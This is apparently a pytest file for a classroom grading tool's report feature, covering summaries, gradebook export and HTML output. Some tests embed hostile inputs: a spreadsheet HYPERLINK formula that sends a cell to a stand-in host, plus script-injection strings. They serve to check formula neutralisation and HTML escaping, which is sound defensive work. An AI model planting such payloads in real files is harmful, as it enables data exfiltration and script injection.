"""``cidlab report``: each table from a small grades CSV whose answers are worked out by hand, the gradebook
(student names from file names, CSV and .xlsx), formula neutralisation in every file written, a
self-contained HTML page, and clear usage errors for files that are not grades CSVs.

The grades here are written the way ``cidlab grade`` writes them (its CSV writer, its columns), with the
real registry's exercise ids and mistake names; ``tests/test_report_grading.py`` builds a report from a real
grading run.
"""
from __future__ import annotations

import argparse
import csv
import math

import matplotlib as mpl
import pandas as pd
import pytest

from cidlab import exercises, grading, report
from cidlab.report import gradebook as gb

FC, SL, WHO = "start_here.first_check", "start_here.first_slider", "start_here.who_sees_payment"
FUNNEL = sorted(ex.id for ex in exercises.lesson_exercises("funnel"))
FUNNEL_POINTS = {ex.id: float(ex.points) for ex in exercises.lesson_exercises("funnel")}
PERCENT_MSG = next(m.message for m in exercises.get(FC).mistakes if m.name == "percent")


def _row(nb, ex, passed, mistake="", points=1.0, feedback=None):
    return {"notebook": nb, "exercise": ex, "points": points if passed else 0.0, "max_points": points,
            "passed": passed, "feedback": feedback or ("Correct." if passed else f"Wrong ({mistake or 'no name'})."),
            "sha256": "ab" * 32, "mistake": mistake}


def start_here_rows() -> list[dict]:
    """Five hand-ins of lesson 00 (see the module docstring of the expected numbers in each test)."""
    rows = []
    nb = "handins/00_start_here-zhang_san.ipynb"                         # 3 of 3
    rows += [_row(nb, FC, True), _row(nb, SL, True), _row(nb, WHO, True)]
    nb = "handins/00_start_here-li_si.ipynb"                             # 1: percent, option_B
    rows += [_row(nb, FC, False, "percent", feedback=PERCENT_MSG + " Hint: CTR = clicks / impressions."),
             _row(nb, SL, True), _row(nb, WHO, False, "option_B")]
    nb = "handins/wang_wu-00_start_here (1).ipynb"                       # 1: inverted, option_B
    rows += [_row(nb, FC, False, "inverted"), _row(nb, SL, True), _row(nb, WHO, False, "option_B")]
    nb = "handins/00_start_here_zhao_liu.ipynb"                          # 1: percent, slider unnamed
    rows += [_row(nb, FC, False, "percent"), _row(nb, SL, False), _row(nb, WHO, True)]
    nb = "handins/00_start_here-chen_qi.ipynb"                           # not a notebook: left out
    rows += [_row(nb, ex, False, feedback="not a valid notebook: the file is not valid JSON (x). Nothing in it "
                                        "could be graded.") for ex in (FC, SL, WHO)]
    return rows


def funnel_rows() -> list[dict]:
    rows = []
    for nb, score in (("handins/01_funnel-zhang_san.ipynb", "all"), ("handins/01_funnel-Li_Si.ipynb", "none")):
        for ex in FUNNEL:
            rows.append(_row(nb, ex, score == "all", "" if score == "all" else
                             ("swapped" if ex == "funnel.roi" else ""), points=FUNNEL_POINTS[ex]))
    rows.append(_row("handins/01_funnel-zhou_ba.ipynb", "funnel.roi", False, points=2.0,
                     feedback="Could not be graded: the kernel would not start."))
    return rows


def write_grades(path, rows) -> None:
    """As ``cidlab grade`` writes its CSV."""
    df = pd.DataFrame(rows, columns=grading.COLUMNS)
    grading.neutralise_formulas(df).to_csv(path, index=False, float_format="%g", lineterminator="\n")


@pytest.fixture()
def g00(tmp_path):
    path = tmp_path / "grades_00.csv"
    write_grades(path, start_here_rows())
    return report.read_grades(path)


@pytest.fixture()
def two(tmp_path):
    a, b = tmp_path / "grades_00.csv", tmp_path / "grades_01.csv"
    write_grades(a, start_here_rows())
    write_grades(b, funnel_rows())
    return report.read_grades([a, b])


# ------------------------------------------------------------------------------------------ reading

def test_read_grades_adds_lesson_student_and_graded(g00):
    assert set(g00["lesson"]) == {"start_here"} and set(g00["lesson_label"]) == {"00_start_here"}
    assert g00["passed"].dtype == bool and g00["points"].dtype == float
    assert sorted(set(g00["student"])) == ["chen_qi", "li_si", "wang_wu", "zhang_san", "zhao_liu"]
    bad = g00[~g00["graded"]]
    assert set(bad["student"]) == {"chen_qi"} and set(bad["whose"]) == {"hand-in"} and len(bad) == 3


def test_a_later_file_replaces_the_same_rows(tmp_path):
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    rows = start_here_rows()
    write_grades(first, rows)
    regraded = [dict(r, passed=True, points=1.0, mistake="", feedback="Correct.")
                for r in rows if r["notebook"].endswith("li_si.ipynb")]
    write_grades(second, regraded)
    df = report.read_grades([first, second])
    assert df.attrs["replaced"] == 3 and len(df) == len(rows)
    assert df.loc[df["student"] == "li_si", "points"].sum() == 3


# ------------------------------------------------------------------------------------------- tables

def test_lesson_summary_by_hand(g00):
    s = report.lesson_summary(g00)
    assert len(s) == 1
    r = s.iloc[0]
    assert (r["lesson"], r["handins"], r["graded"], r["not_graded"], r["max_points"]) == ("00_start_here", 5, 4, 1, 3)
    # graded totals 3, 1, 1, 1
    assert r["mean_points"] == pytest.approx(1.5) and r["median_points"] == 1 and r["min_points"] == 1
    assert r["max_points_scored"] == 3 and r["below_half"] == 3
    assert r["mean_share"] == pytest.approx(0.5)


def test_score_distribution_by_hand(g00):
    d = report.score_distribution(g00)
    assert d[["points", "handins"]].values.tolist() == [[1.0, 3], [3.0, 1]]
    assert set(d["max_points"]) == {3.0}


def test_exercise_summary_by_hand(g00):
    ex = report.exercise_summary(g00).set_index("exercise")
    assert list(ex.index) == [FC, SL, WHO]                     # every exercise of the lesson
    assert ex.loc[FC, ["graded", "passed", "failed", "named_mistakes"]].tolist() == [4, 1, 3, 3]
    assert ex.loc[FC, "pass_rate"] == pytest.approx(0.25) and ex.loc[FC, "mean_points"] == pytest.approx(0.25)
    assert ex.loc[FC, "top_mistakes"] == "percent ×2; inverted ×1"
    assert ex.loc[SL, ["passed", "named_mistakes", "top_mistakes"]].tolist() == [3, 0, ""]
    assert ex.loc[WHO, "pass_rate"] == pytest.approx(0.5) and ex.loc[WHO, "top_mistakes"] == "option_B ×2"


def test_exercise_summary_lists_exercises_no_graded_hand_in_reached(tmp_path):
    path = tmp_path / "g.csv"
    write_grades(path, [r for r in start_here_rows() if "chen_qi" in r["notebook"]])
    ex = report.exercise_summary(report.read_grades(path))
    assert list(ex["exercise"]) == [FC, SL, WHO] and (ex["graded"] == 0).all() and ex["pass_rate"].isna().all()


def test_top_mistakes_counts_shares_and_messages(g00):
    mk = report.top_mistakes(g00)
    assert mk[["exercise", "mistake", "count", "failed"]].values.tolist() == [
        [FC, "percent", 2, 3], [WHO, "option_B", 2, 2], [FC, "inverted", 1, 3]]
    assert mk["share_of_failed"].tolist() == pytest.approx([2 / 3, 1.0, 1 / 3])
    assert mk.loc[0, "message"] == PERCENT_MSG                               # the registry's sentence
    assert mk.loc[1, "message"].startswith("Not B. On CID the payment happens in the external store")
    assert report.top_mistakes(g00, per_exercise=1)["mistake"].tolist() == ["percent", "option_B"]
    with pytest.raises(ValueError, match="per_exercise must be a whole number >= 1"):
        report.top_mistakes(g00, per_exercise=0)


def test_top_mistakes_falls_back_to_the_feedback_for_unknown_names(tmp_path):
    path = tmp_path / "g.csv"
    write_grades(path, [_row("a-00_start_here.ipynb", FC, False, "made_up", feedback="First sentence. Second.")])
    mk = report.top_mistakes(report.read_grades(path))
    assert mk[["mistake", "count", "message"]].values.tolist() == [["made_up", 1, "First sentence."]]


def test_extremes(tmp_path):
    rows = [_row(f"s{i}-00_start_here.ipynb", ex, ok) for i in range(3)
            for ex, ok in ((FC, False), (SL, True), (WHO, i == 0))]
    path = tmp_path / "g.csv"
    write_grades(path, rows)
    e = report.extremes(report.read_grades(path))
    assert e[["exercise", "graded", "finding"]].values.tolist() == [[FC, 3, "nobody passed"],
                                                                    [SL, 3, "everybody passed"]]


def test_not_graded_lists_hand_ins_and_single_answers(two):
    bad = report.not_graded(two)
    assert bad[["student", "lesson", "exercises", "reason", "whose"]].values.tolist() == [
        ["chen_qi", "00_start_here", "all", "not a valid notebook", "hand-in"],
        ["zhou_ba", "01_funnel", "all", "could not be graded (kernel)", "grader: regrade"]]
    assert bad.loc[0, "feedback"] == "not a valid notebook: the file is not valid JSON (x)."


def test_not_graded_single_answers_and_unknown_lessons(tmp_path):
    path = tmp_path / "g.csv"
    write_grades(path, [
        _row("00_start_here-a.ipynb", FC, True), _row("00_start_here-a.ipynb", SL, True),
        _row("00_start_here-a.ipynb", WHO, False, feedback="Internal grader error while grading (KeyError: 'x')."),
        {**_row("essay.ipynb", "", False, points=0.0), "feedback": "could not tell which lesson this notebook "
         "belongs to: no cell carries exercise metadata and the file name names no lesson; nothing was graded."}])
    df = report.read_grades(path)
    bad = report.not_graded(df)
    assert bad[["student", "lesson", "exercises", "whose"]].values.tolist() == [
        ["a", "00_start_here", WHO, "grader: regrade"], ["essay", "unknown", "all", "hand-in"]]
    ex = report.exercise_summary(df).set_index("exercise")
    assert ex.loc[WHO, "graded"] == 0 and ex.loc[FC, "graded"] == 1        # the grader's failure is not counted
    assert report.lesson_summary(df)["lesson"].tolist() == ["00_start_here", "unknown"]
    assert report.gradebook(df).values.tolist() == [["a", 2.0, 2.0]]       # no lesson, no gradebook column


def test_not_graded_prefixes_are_the_graders_messages():
    """Every reason the grader writes for a hand-in it could not grade is one the report knows."""
    import inspect

    src = inspect.getsource(grading)
    for start in ("file not found", "file not readable", "not a valid notebook", "this notebook is lesson",
                  "could not tell which lesson", "Could not be graded", "internal grader error"):
        assert start in src, start
        assert any(start.lower().startswith(k) for k in report.NOT_GRADED), start
    from cidlab.report.tables import _not_graded_reason

    assert _not_graded_reason("Could not be graded: the kernel died or hung 7 times, and re-running the notebook "
                              "used up the hand-in's time.") == ("its cells kept killing the kernel", "hand-in")
    assert _not_graded_reason("Could not be graded: the kernel could not be started (x).")[1] == "grader: regrade"
    assert _not_graded_reason("You gave the CTR as a percentage (2).") is None


def test_several_lessons(two):
    s = report.lesson_summary(two)
    assert s["lesson"].tolist() == ["00_start_here", "01_funnel"]
    assert s.loc[1, ["handins", "graded", "not_graded"]].tolist() == [3, 2, 1]
    assert s.loc[1, "max_points"] == sum(FUNNEL_POINTS.values())
    ex = report.exercise_summary(two)
    assert set(ex["exercise"]) == {FC, SL, WHO, *FUNNEL}
    assert ex.set_index("exercise").loc["funnel.roi", "top_mistakes"] == "swapped ×1"


# ---------------------------------------------------------------------------------------- gradebook

@pytest.mark.parametrize("name, lesson, want", [
    ("handins/01_funnel-zhang_san.ipynb", "funnel", "zhang_san"),
    ("zhang_san-01_funnel (1).ipynb", "funnel", "zhang_san"),
    ("01_funnel_Zhang_San.ipynb", "funnel", "zhang_san"),
    ("zhang_san_funnel.ipynb", "funnel", "zhang_san"),
    ("submitted/zhang_san/01_funnel.ipynb", "funnel", "zhang_san"),
    ("01_funnel-zhang-san.ipynb", "funnel", "zhang-san"),
    ("essay.ipynb", "funnel", "essay"),
    ("00_start_here-李四.ipynb", "start_here", "李四"),
    ("C:\\hand-ins\\01_funnel-wang_wu.ipynb", "funnel", "wang_wu"),
])
def test_student_name_rule(name, lesson, want):
    assert report.student_name(name, lesson) == want


def test_student_name_bad_input():
    with pytest.raises(TypeError, match="notebook must be a path"):
        report.student_name(3)
    with pytest.raises(TypeError, match="lesson must be a lesson key"):
        report.student_name("a.ipynb", lesson=1)


def test_gradebook_wide(two):
    book = report.gradebook(two).set_index("student")
    assert list(book.columns) == ["00_start_here", "01_funnel", "total"]
    full = sum(FUNNEL_POINTS.values())
    assert book.loc["zhang_san"].tolist() == [3.0, full, 3.0 + full]
    assert book.loc["li_si"].tolist() == [1.0, 0.0, 1.0]                 # "Li_Si" and "li_si" are one student
    assert math.isnan(book.loc["wang_wu", "01_funnel"]) and book.loc["wang_wu", "total"] == 1.0
    assert book.loc["chen_qi", "00_start_here"] == 0.0                    # not graded: 0, as the grades say
    assert book.attrs["max_points"] == {"00_start_here": 3.0, "01_funnel": full}


def test_gradebook_keeps_a_students_best_hand_in(tmp_path):
    path = tmp_path / "g.csv"
    write_grades(path, [_row("a/00_start_here-x.ipynb", FC, False), _row("b/00_start_here-x.ipynb", FC, True)])
    book = report.gradebook(report.read_grades(path))
    assert book.values.tolist() == [["x", 1.0, 1.0]] and book.attrs["duplicates"] == 1


def test_gradebook_files_csv_and_xlsx(two, tmp_path):
    from openpyxl import load_workbook

    book = report.gradebook(two)
    csv_path, xlsx_path = report.write_gradebook(book, tmp_path / "out" / "wide.csv")
    assert csv_path.name == "wide.csv" and xlsx_path.name == "wide.xlsx"
    back = pd.read_csv(csv_path, dtype={"student": str})
    assert back["student"].tolist() == book["student"].tolist()
    assert back["total"].tolist() == pytest.approx(book["total"].tolist())
    wb = load_workbook(xlsx_path)
    ws = wb["gradebook"]
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == ["student", "00_start_here", "01_funnel", "total"]
    by_student = {r[0]: r[1:] for r in rows[1:]}
    assert by_student["wang_wu"] == (1.0, None, 1.0)
    last = [tuple(r) for r in wb["max points"].iter_rows(values_only=True)][-1]
    assert last == ("total", 3.0 + sum(FUNNEL_POINTS.values()))
    with pytest.raises(ValueError, match=r"--gradebook must name a \.csv or \.xlsx file"):
        report.write_gradebook(book, tmp_path / "wide.txt")


# ------------------------------------------------------------------------------ files, HTML, the CLI

HOSTILE = '=HYPERLINK("evil.example?x="&A1,"click")'   # a file name: no slash


def _hostile_rows() -> list[dict]:
    nb = f"{HOSTILE}-00_start_here.ipynb"
    return [_row(nb, FC, False, "percent"), _row(nb, SL, False, feedback="-1+1 looks like a formula."),
            _row(nb, WHO, False, "@SUM(1)"),
            _row(f"{HOSTILE}-01_funnel.ipynb", "funnel.roi", False, points=2.0, feedback="file not found: no.")]


def _args(*argv):
    parser = argparse.ArgumentParser()
    report.configure(parser)
    return parser.parse_args([str(a) for a in argv])


def test_every_file_written_neutralises_formulas(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "g.csv"
    write_grades(path, start_here_rows() + _hostile_rows())
    written = report.build_report(path, tmp_path / "rep", tmp_path / "book.xlsx")
    starts = tuple(grading.FORMULA_STARTS)
    seen = set()
    for key, file in written.items():
        if file.suffix == ".csv":
            with open(file, newline="", encoding="utf-8") as f:
                for row in csv.reader(f):
                    for cell in row:
                        assert not cell.startswith(starts), (file.name, cell)
                        if cell.lower().startswith(("'=hyperlink", "'@sum", "'-1+1")):
                            seen.add(file.name)
    assert seen == {"not_graded.csv", "mistakes.csv", "book.csv"}      # notebook/student, mistake id
    ws = load_workbook(written["gradebook_xlsx"])["gradebook"]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" and not c.value.startswith(starts) for c in cells)
    assert any(c.value.startswith("'=hyperlink") for c in cells)      # the student named from that file


def test_report_html_is_self_contained_and_complete(two, tmp_path):
    written = report.build_report(two.attrs["sources"], tmp_path / "rep")
    page = written["html"].read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>") and "<script" not in page.lower()
    assert "http://" not in page and "https://" not in page and "@import" not in page and "url(" not in page
    assert page.count('src="data:image/png;base64,') == 4          # two lessons, pass rates, mistakes
    for ex in (FC, SL, WHO, *FUNNEL):
        assert ex in page
    assert "Most common mistake: <b>start_here.first_check · percent</b>" in page
    assert "zhou_ba" in page and "grader: regrade" in page
    assert set(written) == {"html", *report.TABLE_FILES}
    back = pd.read_csv(written["mistakes"])
    assert back[["exercise", "mistake", "count"]].values.tolist()[0] == [FC, "percent", 2]


def test_report_html_escapes_what_hand_ins_name(tmp_path):
    path = tmp_path / "g.csv"
    nb = "<script>alert(1)</script>-00_start_here.ipynb"
    write_grades(path, [_row(nb, FC, False, "<b>x</b>", feedback="<img src=x onerror=alert(1)> no.")]
                 + [{**_row(nb, SL, False), "feedback": "file not readable: <iframe>."}])
    page = report.build_report(path, tmp_path / "rep")["html"].read_text(encoding="utf-8")
    assert "<script" not in page and "<iframe" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;b&gt;x&lt;/b&gt;" in page


def test_plots_leave_matplotlib_settings_alone(g00, tmp_path):
    before = dict(mpl.rcParams)
    report.build_report(g00.attrs["sources"], tmp_path / "rep")
    after = dict(mpl.rcParams)
    assert {k for k in before if before[k] != after[k] and k != "backend"} == set()


def test_plot_titles_state_the_finding(g00):
    from cidlab.report.render import score_title

    totals = report.build_tables(g00)["totals"]["points"]
    want = "00_start_here: median 1 of 3 points; 3 of 4 hand-ins below half"
    assert score_title("00_start_here", totals, 3.0) == want


def test_pass_rate_title_names_ties(g00):
    from cidlab.report.render import pass_rate_title

    ex = report.exercise_summary(g00)
    assert pass_rate_title(ex) == f"Lowest pass rate, 25%: {FC}"
    assert pass_rate_title(ex.assign(pass_rate=[0.5, 0.5, 1.0])) == f"Lowest pass rate, 50%: {FC}, {SL}"
    assert pass_rate_title(ex.assign(pass_rate=0.5)) == "Every exercise has the same pass rate: 50%"


def test_cli_writes_report_and_gradebook(tmp_path, capsys):
    from cidlab.cli import main

    path = tmp_path / "g.csv"
    write_grades(path, start_here_rows())
    assert main(["report", str(path), "--out", str(tmp_path / "rep"), "--gradebook", str(tmp_path / "wide.csv")]) == 0
    assert (tmp_path / "rep" / "report.html").is_file() and (tmp_path / "wide.xlsx").is_file()
    assert "report.html" in capsys.readouterr().err


@pytest.mark.parametrize("content, message", [
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe", "not a grades CSV (not UTF-8 text)"),
    (b"", "is empty"),
    (b"notebook,exercise,points\nx,y,1\n", "has no column max_points, passed, feedback"),
    (b"name,score\nzhang,3\n", "has no column notebook, exercise"),
    (",".join(grading.COLUMNS).encode() + b"\n", "has a header but no rows"),
    (",".join(grading.COLUMNS).encode() + b"\na.ipynb,start_here.first_check,one,1,True,x,,\n",
     "row 2: points must be a number >= 0, got 'one'"),
    (",".join(grading.COLUMNS).encode() + b"\na.ipynb,start_here.first_check,1,1,maybe,x,,\n",
     "row 2: passed must be True or False, got 'maybe'"),
    (",".join(grading.COLUMNS).encode() + b"\na.ipynb,start_here.first_check,2,1,True,x,,\n",
     "row 2: points (2) exceed max_points (1)"),
    (b'notebook,exercise\n"unterminated,x\n', "not a grades CSV"),
])
def test_bad_input_is_a_usage_error(tmp_path, capsys, content, message):
    path = tmp_path / "g.csv"
    path.write_bytes(content)
    with pytest.raises(ValueError, match="GRADES: .*" + message.replace("(", r"\(").replace(")", r"\)")):
        report.read_grades(path)
    out = tmp_path / "rep"
    assert report.run(_args(path, "--out", out)) == 2
    err = capsys.readouterr().err
    assert err.startswith("cidlab report: GRADES:") and message in err and not out.exists()


def test_usage_errors(tmp_path, capsys):
    good = tmp_path / "g.csv"
    write_grades(good, start_here_rows())
    afile = tmp_path / "afile"
    afile.write_text("x")
    cases = [(_args("--out", tmp_path / "r"), "give at least one grades CSV"),
             (_args(tmp_path / "nope.csv", "--out", tmp_path / "r"), "is not a file"),
             (_args(good, "--out", afile), "is a file; give a folder"),
             (_args(good, "--out", tmp_path / "r", "--gradebook", tmp_path / "wide.txt"), "must name a .csv or .xlsx")]
    for args, message in cases:
        assert report.run(args) == 2
        assert message in capsys.readouterr().err
    assert not (tmp_path / "r").exists()
    with pytest.raises(TypeError, match="paths must be a path or a list of paths"):
        report.read_grades(3)
    with pytest.raises(ValueError, match="give at least one grades CSV"):
        report.read_grades([])
